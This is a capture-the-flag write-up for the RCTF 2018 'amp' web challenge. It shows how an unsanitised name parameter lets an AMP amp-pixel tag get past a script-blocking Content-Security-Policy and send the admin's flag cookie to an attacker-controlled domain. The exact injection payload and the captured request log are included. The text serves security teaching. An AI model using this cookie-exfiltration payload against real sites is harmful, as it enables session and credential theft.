Writeup amp from RCTF2018

by: ablu


We receive the following info:

Building the future web, together.


After loading the page we are presented with:

Landing page of the challenge
Landing page of the challenge

Entering a name results in a notice of you being tracked:

The name passed as query parameter is inserted into the document and we receive a tracking warning
The name passed as query parameter is inserted into the document and we receive a tracking warning

Generously the page allows us to request an end of tracking:

Requesting to stop tracking triggers a request to an admin
Requesting to stop tracking triggers a request to an admin

Additionally the page sets a cookie which gives us a hint about the place where the flag lives:

The cookie tells us where to find the flag
The cookie tells us where to find the flagSince the flag apparently is in the cookie of the admin, we need to steal that cookie. The page seems to reflect values entered as the ?name= parameter back into the HTML of the page. Probably it will also include this HTML code in the request which is sent to the admin.

Upon further analysis the page does not seem to perform any sanitization of the user controlled parameter. Thus we can inject inject arbitrary HTML code. However, injecting scripts is prevented by the server setting a Content-Security-Policy:

script-src 'nonce-2d09f4833b69e90fc34c4f8e3838c473' 'strict-dynamic'; style-src 'unsafe-inline'

The received HTML code then looks like:

<p>Dear <script>alert('test')</script>:</p>
<!-- OK, I don't care AMP Standard -->
<!-- It just wastes my time. -->
<script src="https://www.google.com/recaptcha/api.js" nonce="2d09f4833b69e90fc34c4f8e3838c473"></script>
<script nonce="2d09f4833b69e90fc34c4f8e3838c473">
function onSubmit(token) {

This means that the script tag is not executed since it needs to have a nonce=<nonce> set where <nonce> matches the nonce of the response header (which is changing on each response). While it is still be possible to load other javascript files by injecting mismatching numbers of " characters which then can allow us to steal the nonce of a following script tag this will only allow us to load arbitrary script files and not embed script code right within the tags. Loading scripts from files from a different server might allow us to steal nonces of other script tags and then inject code which gets access to document.cookie, but all this is highly speculative on the structure of the admin page.If that one does not use JavaScript at all, we are out of luck.

Thus, lets focus on the hint which is provided as HTML comment:

<!-- OK, I don't care AMP Standard -->
<!-- It just wastes my time. -->

The AMP Standard aims to provide blazing fast rendering of (mobile) pages. It achieves this by loading the entire page in a single request and forbidding use of (synchronous) javascript. However, most websites still depend on dynamic content and would not be implementable without scripts or advertisers being able to track users. Thus the AMP Standard invents its own HTML tags in order to still be able to provide such features without sacrificing speed. The following code will, for example, trigger a request for a pixel with a random value as GET parameter:

<amp-pixel src="https://foo.com/pixel?RANDOM"></amp-pixel>

Since this simple random value is not that useful for advertisers who care a lot in order to provide us with ads we like there are more sophisticated variable substitution techniques available in the AMP documentation.

Notablehere is the clientId:

<amp-pixel src="https://foo.com/pixel?cid=CLIENT_ID(site-user-id-cookie-fallback-name)"></amp-pixel>

This will trigger a request for a tracking pixel which includes the AMP client id. If that id does not exist the value of the cookie site-user-id-cookie-fallback-name is used.

So if we can inject such an <amp-pixel> tag into the admin log view, we can steal his cookie.

Thus we set our name to:

?name=<amp-pixel src="https://<some domain we control>/pixel?clientId=CLIENT_ID(FLAG)"></amp-pixel>

And request not to be logged.

The admin promptly seems to check the logs and we record a request against our domain1:

[21/May/2018:06:41:08 -0400] "GET /pixel?clientId=RCTF%7BEl_PsY_CONGRO0_sg0%7D HTTP/1.1" 404 3650 "http://amp.2018.teamrois.cn/?name=%3Camp-pixel%20src=%22https://<some domain we control>/pixel?clientId=CLIENT_ID(FLAG)%22%3E%3C/amp-pixel%3E?name=%3Camp-pixel%20src=%22https://<some domain we control>/pixel?clientId=CLIENT_ID(FLAG)%22%3E%3C/amp-pixel%3E" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/66.0.3359.117 Safari/537.36" "-"This leaves us with the flag: RCTF{El_PsY_CONGRO0_sg0}

  1. Due to restrictions of loading external scripts the domain needs to serve HTTPscontent. But thanks to https://letsencrypt.org/ this should not be an issue. ↩


/upb/hack e.V.
IBAN: DE91472601218328783500

Wir sind ein eingetragener, gemeinnützigerVerein. Für eine Spendenquittung wenden Sie sich bitte an: [email protected]

Unseredigitale Spendenquittung können Sie mit dem folgendenZertifikat verifizieren: Zertifikat